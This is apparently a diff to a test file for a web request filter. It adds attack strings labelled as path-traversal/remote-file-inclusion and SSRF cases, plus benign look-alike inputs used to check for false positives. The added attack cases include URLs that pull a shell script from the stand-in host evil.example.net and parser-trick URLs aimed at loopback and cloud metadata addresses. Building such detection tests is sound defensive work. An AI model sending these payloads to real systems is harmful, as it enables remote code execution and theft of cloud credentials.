@@ -73,6 +73,9 @@ const ATTACKS: Array<[string, AttackClass, Where, string]> = [
   ['kernel objects', 'ptrav', 'q', encodeURIComponent('/sys/class/net')],
   ['remote file with its suffix cut by ?', 'ptrav', 'path', '/inc/header.php?mainpath=http://evil.example.net/shell.txt?'],
   ['remote file with ?? and a command', 'ptrav', 'q', encodeURIComponent('http://evil.example.net/shell.txt??&cmd=id')],
+  ['remote file in quotes, its suffix cut', 'ptrav', 'path', '/inc/config.php?root=%27http://evil.example.net/shell.txt?%27'],
+  ['remote file after a doubled =', 'ptrav', 'path', '/index.php?base==http://evil.example.net/shell.txt?'],
+  ['remote file glued to the parameter name', 'ptrav', 'path', '/core/news.php?absoluteurlhttp://evil.example.net/shell.txt?'],
   // 8. XXE without SYSTEM, and DOCTYPE in JSON.
   [
     'entity expansion bomb',
@@ -108,6 +111,18 @@ const ATTACKS: Array<[string, AttackClass, Where, string]> = [
   ['IPv6 loopback', 'ssrf', 'q', encodeURIComponent('::1')],
   ['rsync scheme', 'ssrf', 'q', encodeURIComponent('rsync://[0:0:0:0:0:ffff:169.254.169.254]/')],
   ['Oracle Cloud metadata', 'ssrf', 'q', encodeURIComponent('http://192.0.0.192/latest/')],
+  // SSRF: the host as the fetcher (WHATWG URL) reads it.
+  ['backslashes for slashes', 'ssrf', 'q', encodeURIComponent('http:\\\\127.0.0.1\\admin')],
+  ['a slash and a backslash', 'ssrf', 'json', '{"url":"http:/\\/169.254.169.254/"}'],
+  ['three slashes', 'ssrf', 'q', encodeURIComponent('http:///127.0.0.1/')],
+  ['scheme-relative with three slashes', 'ssrf', 'form', 'src=' + encodeURIComponent('///localhost/')],
+  ['IPv6 loopback with leading zeros', 'ssrf', 'q', encodeURIComponent('http://[0000::1]/')],
+  ['IPv6 loopback compressed twice over', 'ssrf', 'q', encodeURIComponent('http://[0:0::1]:8080/')],
+  ['IPv4-translated loopback', 'ssrf', 'q', encodeURIComponent('http://[::ffff:0:127.0.0.1]/')],
+  ['NAT64 metadata address', 'ssrf', 'q', encodeURIComponent('http://[64:ff9b::169.254.169.254]/')],
+  ['a name under .localhost', 'ssrf', 'q', encodeURIComponent('http://admin.localhost:8080/')],
+  ['IPv6 outside the global unicast space', 'ssrf', 'q', encodeURIComponent('http://[dead:beef::1]/')],
+  ['one decimal number after http: without slashes', 'ssrf', 'q', encodeURIComponent('http:3627734734')],
   // CRLF where it reaches a header.
   ['a line break in the path', 'crlf', 'path', '/index.php/PHP%0Ainfo.php'],
   ['a line break in a parameter name', 'crlf', 'path', '/get?parameter%0d%0a=test'],
@@ -184,6 +199,12 @@ const BENIGN: Array<[string, Where, string]> = [
   ['a version number', 'q', '10.1'],
   ['a price', 'q', '0.05'],
   ['a private address in a settings form', 'form', 'gateway=192.168.1.1&dns=10.0.0.53'],
+  ['a public IPv6 address in a URL', 'q', encodeURIComponent('http://[2001:db8::1]/status')],
+  ['a product number then a slug', 'q', encodeURIComponent('55012873/blue-glass-beads')],
+  ['a link to a page with a query', 'path', '/go?url=' + encodeURIComponent('https://shop.example/index.php?id=5')],
+  ['a link to a routed page', 'path', '/go?url=' + encodeURIComponent('https://shop.example/index.php?/admin/login')],
+  ['a Windows path with backslashes', 'form', 'dir=' + encodeURIComponent('\\\\fileserver\\reports\\2024')],
+  ['a URL with a full-width host', 'q', encodeURIComponent('https://\uff45\uff58\uff41\uff4d\uff50\uff4c\uff45.com/')],
   ['a date with slashes', 'json', '{"due":"15/01/2024"}'],
   ['an id and a base64 tail', 'q', encodeURIComponent('2/1JzYh6glEEVrNB6zlia7d4pcI=')],
   [
